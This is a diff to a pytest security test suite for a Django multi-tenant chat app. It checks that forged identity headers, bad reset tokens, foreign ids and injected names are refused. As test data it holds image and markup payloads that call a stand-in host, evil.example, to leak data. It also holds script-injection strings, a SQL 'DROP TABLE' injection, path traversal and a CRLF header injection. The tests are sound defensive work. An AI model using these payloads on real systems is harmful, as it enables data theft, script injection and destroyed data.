@@ -1,17 +1,25 @@
 """Holes that others had to publish advisories for, tried here. Every refusal stands beside what its owner may."""
 
+import json
+import re
 from collections.abc import Callable
+from html import escape
+from html.parser import HTMLParser
+from urllib.parse import quote
 from uuid import uuid4
 
 import pytest
+from allauth.account.forms import default_token_generator
+from allauth.account.utils import user_pk_to_url_str
 from django.test import Client
 
 from apps.accounts.models import User
-from apps.markdown import render
+from apps.markdown import BlockStream, render
 from apps.tenants import services as tenants
 from apps.tenants.contracts import Principal, Scope
-from apps.tenants.models import Membership, Tenant
+from apps.tenants.models import Membership, Team, Tenant
 from tests.isolation.attack import Ground
+from tests.isolation.product import Call, give_back_connections
 from tests.people import new_address, new_member
 
 KeyOf = Callable[[Principal], str]
@@ -116,6 +124,14 @@ def test_metacharacters_in_headers_are_text(header: str, value: str) -> None:
         "X-Tenant-Id",
         "X-User-Id",
         "X-Auth-Request-Email",
+        "X-Auth-Request-User",
+        "X-Webauth-User",
+        "X-Forwarded-Preferred-Username",
+        "X-Goog-Authenticated-User-Email",
+        "Cf-Access-Authenticated-User-Email",
+        "X-OpenWebUI-User-Email",
+        "X-Ms-Client-Principal-Name",
+        "Ssl-Client-S-Dn",
     ],
 )
 def test_forged_identity_headers_are_nobodys(alice: Principal, bob: Principal, api_key_of: KeyOf, header: str) -> None:
@@ -125,40 +141,198 @@ def test_forged_identity_headers_are_nobodys(alice: Principal, bob: Principal, a
     assert alice.user_email not in str(told) and bob.user_email in str(told)
 
 
-@pytest.mark.parametrize("token", [None, "", " ", "null", "undefined", "0", "-", "set-password"])
-def test_an_empty_reset_token_resets_nothing(alice: Principal, token: str | None) -> None:
-    """Whatever path the reset has or will have: none of these changes the password."""
-    before = User.objects.get(id=alice.user_id).password
-    client = Client(REMOTE_ADDR=new_address())
-    body = {"email": alice.user_email, "token": token, "key": token, "uid": str(alice.user_id)}
-    body |= {
-        "password": "another long password",
-        "password1": "another long password",
-        "password2": "another long password",
-    }
-    for path in ("/password/reset/", f"/password/reset/key/{token}/", f"/accounts/password/reset/key/1-{token}/"):
-        client.post(path, {name: value for name, value in body.items() if value is not None})
-    assert User.objects.get(id=alice.user_id).password == before
+CHOSEN = {"password1": "another long password", "password2": "another long password"}
 
 
-def test_images_in_an_answer_fetch_nothing_from_elsewhere() -> None:
-    leak = "![x](https://evil.example/?q=secret) <img src=https://evil.example/> [![y](//evil.example/z)](https://a.example)"
-    html = render(leak)
-    assert "<img" not in html.lower() or "evil.example" not in html.split("<img", 1)[1].split(">", 1)[0]
+def reset(client: Client, person: User, token: str) -> None:
+    """Follow a reset's link as a browser does, and where it leads nowhere, send the form to every address there is."""
+    address = f"/account/password/reset/key/{user_pk_to_url_str(person)}-"
+    page = client.get(f"{address}{quote(token, safe='')}/", follow=True)
+    paths = {f"{address}{token}/", f"{address}set-password/", page.request["PATH_INFO"]}
+    for path in sorted(paths):
+        client.post(quote(path), {**CHOSEN, "token": token, "key": token})
 
 
-@pytest.mark.parametrize(
-    "text", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "{{7*7}}"]
-)
+@pytest.mark.parametrize("token", ["", " ", "null", "None", "undefined", "0", "-", "set-password", "0-0", "\0"])
+def test_an_empty_reset_token_resets_nothing(alice: Principal, token: str) -> None:
+    person = User.objects.get(id=alice.user_id)
+    reset(Client(REMOTE_ADDR=new_address()), person, token)
+    assert User.objects.get(id=alice.user_id).password == person.password
+
+
+def test_a_reset_token_is_its_persons_alone(alice: Principal, mallory: Principal) -> None:
+    victim, attacker = (User.objects.get(id=one.user_id) for one in (alice, mallory))
+    reset(Client(REMOTE_ADDR=new_address()), victim, default_token_generator.make_token(attacker))
+    assert User.objects.get(id=victim.id).password == victim.password
+    reset(Client(REMOTE_ADDR=new_address()), victim, default_token_generator.make_token(victim))
+    assert User.objects.get(id=victim.id).check_password(CHOSEN["password1"])
+
+
+LEAKS = [
+    "![x](https://evil.example/?q=secret)",
+    "![x](//evil.example/z 'title')",
+    "[![y](//evil.example/z)](https://a.example)",
+    "![x][ref]\n\n[ref]: https://evil.example/z",
+    "<img src=https://evil.example/>",
+    "<img/src='https://evil.example/' srcset='https://evil.example/ 2x'>",
+    "<link rel=stylesheet href=https://evil.example/>",
+    "<p style='background:url(https://evil.example/)'>x</p>",
+    "<video poster=https://evil.example/></video><audio src=//evil.example/ autoplay></audio>",
+    "<iframe src=https://evil.example/></iframe><object data=//evil.example/></object><embed src=//evil.example/>",
+    "<svg><image href='https://evil.example/'/><use href='https://evil.example/#x'/></svg>",
+    "<form action=https://evil.example/><input type=image src=//evil.example/></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href=https://evil.example/>",
+    "$$\\includegraphics{https://evil.example/}$$ $\\href{https://evil.example/}{x}$",
+    "```html\n<img src=https://evil.example/>\n```",
+]
+
+
+class Fetched(HTMLParser):
+    """Every address that a browser would call by itself."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.addresses: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        followed = {"href"} if tag in ("a", "area") else set()
+        self.addresses += [
+            f"{tag} {name}={value}" for name, value in attrs if name not in followed and "evil.example" in (value or "")
+        ]
+
+
+class Active(HTMLParser):
+    """Whatever a browser would run."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in ("script", "svg", "img", "iframe", "object", "embed", "style"):
+            self.found.append(tag)
+        self.found += [f"{tag} {name}" for name, value in attrs if name.startswith("on") or "script:" in (value or "")]
+
+
+@pytest.mark.parametrize("leak", LEAKS)
+def test_an_answer_fetches_nothing_from_elsewhere(leak: str) -> None:
+    """Whole, and as it is drawn while it streams, cut anywhere."""
+    drawn = [render(leak)]
+    for size in (1, 7):
+        stream = BlockStream()
+        events = [event for start in range(0, len(leak), size) for event in stream.feed(leak[start : start + size])]
+        drawn += [getattr(event, "html", "") or "" for event in [*events, *stream.finish()]]
+    for html in drawn:
+        seen = Fetched()
+        seen.feed(html)
+        assert seen.addresses == []
+
+
+def test_the_policy_lets_no_page_fetch_images_from_elsewhere(
+    client_of: Callable[[Principal], Client], alice: Principal
+) -> None:
+    """Whatever gets through the drawing: the browser is told to fetch nothing."""
+    for path in ("/chat/", "/settings/workspace/", "/manage/"):
+        policy = client_of(alice).get(path).headers["Content-Security-Policy"]
+        rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
+        assert rules["default-src"] == "'self'" and "http" not in rules.get("img-src", "")
+        assert not any("*" in rule or "evil" in rule for rule in rules.values())
+
+
+HOSTILE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "{{7*7}}"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
 def test_html_in_names_and_titles_is_text(
     client_of: Callable[[Principal], Client], alice: Principal, text: str
 ) -> None:
     Tenant.objects.using("engine").filter(id=alice.tenant_id).update(name=text)
     member = new_member(alice, "Bob")
     User.objects.using("engine").filter(id=member.user_id).update(name=text)
+    Team.objects.using("engine").create(tenant_id=alice.tenant_id, name=text)
+    tenants.create_api_key(alice, text)
     browser = client_of(alice)
-    for path in ("/chat/", "/settings/keys/", "/settings/workspace/"):
+    pages = ["/chat/", "/settings/keys/", "/settings/workspace/", "/settings/workspace/teams/"]
+    for path in (*pages, "/settings/workspace/audit/"):
         page = browser.get(path).content.decode()
-        assert "<html" in page and "{{7*7}}".replace("7*7", "49") not in page
+        assert "<" not in text or text not in page, path
+        assert escape(text) in page or path == "/chat/", f"{path} shows it as text"
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_html_in_what_people_and_models_write_is_text(ground: type[Ground], text: str) -> None:
+    """A question, its title, the answer and the reasoning: on the page, in fragments and in events."""
+    side = ground.victim
+    turn = side.answered(question=text, answer=f"before {text} after")
+    give_back_connections()
+    chat = turn.conversation_id
+    calls = [side.call("GET", path, "session") for path in (f"/chat/{chat}/", f"/chat/{chat}/turns", "/chat/list")]
+    stream = side.call("GET", f"/v1/chat/streams/{turn.turn_id}", query={"render": "html"})
+    page, turns, listed, events = ground.product.call(*calls, stream)
+    for answer in (page, turns, listed):
+        assert answer.status == 200
         if "<" in text:
-            assert text not in page, path
+            assert text.encode() not in answer.told
+    assert escape(text).encode() in page.told and escape(text).encode() in listed.told
+    drawn = [json.loads(line[6:]) for line in events.told.decode().splitlines() if line.startswith("data: ")]
+    shown = [event["html"] for event in drawn if "html" in event]
+    assert shown
+    for html in shown:
+        seen = Active()
+        seen.feed(html)
+        assert seen.found == []
+
+
+@pytest.mark.parametrize("name", ['a"; filename="evil.html', "a\r\nX-Evil: 1", "../../etc/passwd", "<b>.html", "ünï"])
+def test_a_tenants_name_makes_no_header_and_no_path_of_a_file(
+    client_of: Callable[[Principal], Client], alice: Principal, name: str
+) -> None:
+    Tenant.objects.using("engine").filter(id=alice.tenant_id).update(name=name)
+    for kind in ("csv", "jsonl"):
+        answered = client_of(alice).post("/settings/workspace/audit/export/", {"file": kind})
+        assert answered.status_code == 200 and "X-Evil" not in answered.headers
+        told = answered.headers["Content-Disposition"]
+        assert re.fullmatch(rf'attachment; filename="audit-[\w-]+-\d{{8}}\.{kind}"', told, re.ASCII), told
+
+
+@pytest.mark.parametrize(
+    "field", ["file_id", "file_ids", "folder_id", "folder", "parent_id", "conversation_id", "tenant_id"]
+)
+def test_a_foreign_id_in_a_body_that_has_no_place_for_it_does_nothing(ground: type[Ground], field: str) -> None:
+    """Here are no files and no folders: the day there are, their ids are refused or ignored, and nothing is moved."""
+    turn = ground.victim.finished
+    assert turn is not None
+    mine = ground.attacker.answered()
+    give_back_connections()
+    before = ground.victim.rows()
+    foreign = [str(turn.conversation_id)] if field.endswith("s") else str(turn.conversation_id)
+    for method, path, body in (
+        ("PATCH", f"/api/v1/conversations/{mine.conversation_id}/", {"title": "mine"}),
+        ("POST", "/v1/chat/messages", {"message": "x", "models": ["probe"]}),
+        ("POST", "/api/v1/teams/", {"name": f"team {uuid4()}"}),
+        ("POST", "/api/v1/invitations/", {"email": f"{uuid4().hex}@example.org"}),
+    ):
+        (answer,) = ground.product.call(ground.attacker.call(method, path, json={**body, field: foreign}))
+        assert answer.status < 500 and ground.victim.canary.encode() not in answer.told
+        if path == "/v1/chat/messages" and field == "conversation_id":
+            assert answer.status == 404
+        else:
+            assert answer.status in (200, 201, 202, 400), (path, answer.status)
+    assert ground.victim.rows() == before
+
+
+@pytest.mark.parametrize("value", ["' OR '1'='1", "'; DROP TABLE tenants_apikey; --", "%", "\\'", "\x00", "a" * 9000])
+def test_metacharacters_at_the_directory_and_on_the_socket_are_text(ground: type[Ground], value: str) -> None:
+    call = Call(
+        "GET",
+        "/scim/v2/Users",
+        {"Authorization": f"Bearer sk-sb-{value}".replace("\x00", "")},
+        {},
+        address=new_address(),
+    )
+    (answer,) = ground.product.call(call)
+    assert answer.status == 401, answer.told[-200:]
+    for token in (value, f"sk-sb-{value}", f"eyJhbGciOiJIUzI1NiJ9.{value}.x"):
+        heard = ground.product.socket({}, [{"type": "auth", "token": token}])
+        assert [one.get("status") for one in heard if one["type"] == "error"] == [401], heard
+        assert heard[-1]["type"] == "websocket.close"
